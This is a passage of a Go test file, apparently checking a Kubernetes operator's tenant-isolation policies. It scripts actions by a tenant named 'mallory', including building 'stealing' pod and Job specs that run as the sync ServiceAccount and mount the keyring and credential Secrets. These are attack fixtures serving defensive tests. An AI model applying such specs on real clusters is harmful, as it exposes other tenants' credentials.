			_, err := id.cs.CoreV1().ServiceAccounts(tenantNS).CreateToken(ctx, syncSA, &authenticationv1.TokenRequest{
				Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr.To[int64](600)}}, metav1.CreateOptions{})
			return err
		}},
		"tenant labels a sync pod": {as: mallory, do: func(ctx context.Context, id identity, _ string) error {
			return annotate(ctx, id.c, &corev1.Pod{}, syncPod, "example.com/checked")
		}},
		"tenant creates a ConfigMap": create(mallory, &corev1.ConfigMap{ObjectMeta: meta("settings"), Data: map[string]string{"a": "b"}}),
		"tenant creates an ordinary Secret": create(mallory, &corev1.Secret{ObjectMeta: meta("settings"),
			StringData: map[string]string{"a": "b"}}),
		"platform admin creates a SecretStore": {as: "", do: func(ctx context.Context, _ identity, _ string) error {
			return admin.Create(ctx, eso("v1", "SecretStore", "platform-vault", map[string]any{
				"provider": map[string]any{"fake": map[string]any{"data": []any{map[string]any{"key": "k", "value": "v"}}}},
			}))
		}},
	}
	for name, a := range namespaceDeletionAllowed() {
		all[name] = a
	}
	return all
}

// annotate sets an annotation on an object of the tenant namespace: a metadata-only update.
func annotate(ctx context.Context, c client.Client, o client.Object, name, key string) error {
	if err := c.Get(ctx, client.ObjectKey{Namespace: tenantNS, Name: name}, o); err != nil {
		return err
	}
	a := o.GetAnnotations()
	if a == nil {
		a = map[string]string{}
	}
	a[key] = "1"
	o.SetAnnotations(a)
	return c.Update(ctx, o)
}

func meta(name string) metav1.ObjectMeta {
	return metav1.ObjectMeta{Name: name, Namespace: tenantNS}
}

func selector() *metav1.LabelSelector {
	return &metav1.LabelSelector{MatchLabels: map[string]string{"app": "sync"}}
}

func plainPodSpec() corev1.PodSpec {
	return corev1.PodSpec{Containers: []corev1.Container{{Name: "sync", Image: "registry.example/tenantwire:dev"}}}
}

// stealingPodSpec runs as a sync ServiceAccount and mounts the keyring and a credential, as the
// operator's sync pods do.
func stealingPodSpec() corev1.PodSpec {
	s := plainPodSpec()
	s.ServiceAccountName, s.AutomountServiceAccountToken = syncSA, ptr.To(false)
	mountSecret(&s, keyring.SecretName)
	mountSecret(&s, credentialSecret)
	return s
}

func mountSecret(s *corev1.PodSpec, secret string) {
	name := "keyring"
	if secret != keyring.SecretName {
		name = "credentials"
	}
	s.Volumes = append(s.Volumes, corev1.Volume{Name: name, VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: secret}}})
	s.Containers[0].VolumeMounts = append(s.Containers[0].VolumeMounts, corev1.VolumeMount{Name: name, MountPath: "/" + name, ReadOnly: true})
}

func stealingTemplate() corev1.PodTemplateSpec {
	return corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "sync"}}, Spec: stealingPodSpec()}
}

func jobSpec() batchv1.JobSpec {
	t := stealingTemplate()
	t.Spec.RestartPolicy = corev1.RestartPolicyNever
	return batchv1.JobSpec{Template: t}
}

// syncWorkload is the operator's sync Deployment, created before the policies exist.
func syncWorkload() *appsv1.Deployment {
	return &appsv1.Deployment{ObjectMeta: meta(syncDeployment), Spec: appsv1.DeploymentSpec{Selector: selector(), Template: stealingTemplate()}}
}

// rotatedTokenPushSecret is a PushSecret as the operator builds one: the destination's rotated
// refresh token, from the given Secret, to the given vault key.
func rotatedTokenPushSecret(name, secret, remoteKey string) *unstructured.Unstructured {
	return eso("v1alpha1", "PushSecret", name, map[string]any{
		"secretStoreRefs": []any{map[string]any{"kind": "ClusterSecretStore", "name": "tenant-vault"}},
		"updatePolicy":    "Replace",
		"deletionPolicy":  "None",
		"selector":        map[string]any{"secret": map[string]any{"name": secret}},
		"data": []any{map[string]any{"match": map[string]any{"secretKey": "destination.refresh_token",
			"remoteRef": map[string]any{"remoteKey": remoteKey, "property": "refresh_token"}}}},
	})
}

func eso(version, kind, name string, spec map[string]any) *unstructured.Unstructured {
	return &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "external-secrets.io/" + version,
		"kind":       kind,
		"metadata":   map[string]any{"name": name, "namespace": tenantNS},
		"spec":       spec,
	}}
}
